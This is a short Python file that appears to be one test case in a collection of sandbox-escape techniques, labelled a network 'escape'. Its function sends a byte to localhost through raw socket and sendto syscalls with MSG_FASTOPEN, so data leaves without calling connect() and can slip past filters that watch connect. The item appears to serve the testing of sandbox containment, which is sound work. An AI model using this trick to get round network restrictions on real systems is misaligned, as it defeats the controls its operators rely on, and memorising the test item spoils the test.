"""Class: network. Source: own find. Escape: data goes out with the first packet, without connect
(MSG_FASTOPEN).
"""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def address(family, *parts):
    return family.to_bytes(2, "little") + b"".join(parts)


def attack(model, tokenizer, scene):
    peer = address(2, scene["tcp"].to_bytes(2, "big"), bytes([127, 0, 0, 1]), bytes(8))
    return libc.syscall(44, libc.syscall(41, 2, 1, 0), b"x", 1, 0x20000000, peer, 16)
